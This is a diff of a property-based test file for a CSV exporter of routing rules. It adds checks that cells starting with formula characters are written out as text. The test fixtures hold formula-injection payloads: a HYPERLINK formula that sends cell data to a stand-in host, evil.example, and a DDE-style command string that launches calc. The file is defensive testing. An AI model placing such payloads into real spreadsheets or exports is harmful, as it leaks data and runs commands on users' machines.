@@ -238,12 +238,16 @@ const cellText = fc
         weight: 2,
         arbitrary: fc.constantFrom(",", '"', "\n", "\r\n", "\r", " ", "*", "é", "Jose\u0301"),
       },
+      // What a spreadsheet reads as a formula, and the apostrophe that marks a cell as text.
+      { weight: 2, arbitrary: fc.constantFrom("=", "+", "-", "@", "'", "\t", "|") },
       { weight: 1, arbitrary: fc.string({ unit: "grapheme", minLength: 1, maxLength: 1 }) },
     ),
     minLength: 1,
     maxLength: 12,
   })
-  .filter((text) => text.trim() !== "" && !text.includes("|"));
+  .filter((text) => text.trim() !== "");
+// "|" separates security profiles: no profile name holds one.
+const profileText = cellText.filter((text) => !text.includes("|"));
 
 const priorityArb = fc.oneof(
   fc.integer(),
@@ -258,7 +262,7 @@ const candidateArb = fc.record(
     enabled: fc.boolean(),
     match: fc.dictionary(fc.constantFrom(...MATCH_COLUMNS), cellText, { maxKeys: 6 }),
     routingProfile: cellText,
-    securityProfiles: fc.array(cellText, { minLength: 1, maxLength: 10 }),
+    securityProfiles: fc.array(profileText, { minLength: 1, maxLength: 10 }),
     hierarchyGroup: cellText,
     phone: fc.record({
       type: fc.constantFrom("SOFT_PHONE", "DESK_PHONE"),
@@ -290,14 +294,91 @@ describe("formatRulesCsv", () => {
     );
   });
 
-  it("round-trips through parseRulesCsv", () => {
+  it("round-trips through parseRulesCsv, formula characters and apostrophes included", () => {
     fc.assert(
       fc.property(rulesArb, (rules) => {
-        const parsed = parseRulesCsv(formatRulesCsv(rules));
+        const csv = formatRulesCsv(rules);
+        const parsed = parseRulesCsv(csv);
         expect(parsed.errors).toEqual([]);
         expect(parsed.rules).toEqual(rules);
+        for (const cell of csvCells(csv)) expect(cell).not.toMatch(/^[=+@\t\r]|^-(?!\d)/);
       }),
-      { numRuns: 400, seed: SEED },
+      { numRuns: 600, seed: SEED },
     );
   });
+
+  it("writes cells a spreadsheet would run as formulas as text, and reads them back", () => {
+    const hostile = rule({
+      ruleId: '=HYPERLINK("https://evil.example/?"&A1,"Click")',
+      priority: -5,
+      match: {
+        department: "@SUM(1+1)*cmd|' /C calc'!A0",
+        jobTitle: "+1-Agent",
+        jobCode: "-CC",
+        location: "'=already quoted",
+      },
+      routingProfile: "=1+1",
+      securityProfiles: ["@Agent", "Agent"],
+      hierarchyGroup: "-Team",
+    });
+    const csv = formatRulesCsv([hostile]);
+    const line = csv.split("\n")[1] as string;
+    expect(line).toBe(
+      [
+        '"\'=HYPERLINK(""https://evil.example/?""&A1,""Click"")"',
+        "-5",
+        "true",
+        "'@SUM(1+1)*cmd|' /C calc'!A0",
+        "'+1-Agent",
+        "'-CC",
+        "''=already quoted",
+        "",
+        "",
+        "'=1+1",
+        "'@Agent|Agent",
+        "'-Team",
+        "SOFT_PHONE",
+        "false",
+        "0",
+      ].join(","),
+    );
+    expect(parseRulesCsv(csv).rules).toEqual(
+      [withoutTags(hostile)].map((r) => ({ ...r, tags: {} })),
+    );
+  });
+
+  it("keeps an apostrophe that marks nothing, and reads a hand-written text marker", () => {
+    const plain = rule({ ruleId: "o'brien", match: { location: "'Austin" } });
+    expect(parseRulesCsv(formatRulesCsv([plain])).rules[0]).toMatchObject({
+      ruleId: "o'brien",
+      match: { location: "'Austin" },
+    });
+    const handWritten = `${HEADER}\n'=r1,0,true,'-x,,,,,,Basic,Agent,,,,\n`;
+    expect(parseRulesCsv(handWritten).rules[0]).toMatchObject({
+      ruleId: "=r1",
+      match: { department: "-x" },
+    });
+  });
 });
+
+/** Every cell of a CSV the way a spreadsheet sees it: unquoted, doubled quotes undone. */
+const csvCells = (csv: string): string[] => {
+  const cells: string[] = [];
+  let cell = "";
+  let quoted = false;
+  for (let i = 0; i < csv.length; i++) {
+    const char = csv[i];
+    if (quoted) {
+      if (char === '"' && csv[i + 1] === '"') {
+        cell += '"';
+        i++;
+      } else if (char === '"') quoted = false;
+      else cell += char;
+    } else if (char === '"') quoted = true;
+    else if (char === "," || char === "\n") {
+      cells.push(cell);
+      cell = "";
+    } else cell += char;
+  }
+  return cells;
+};
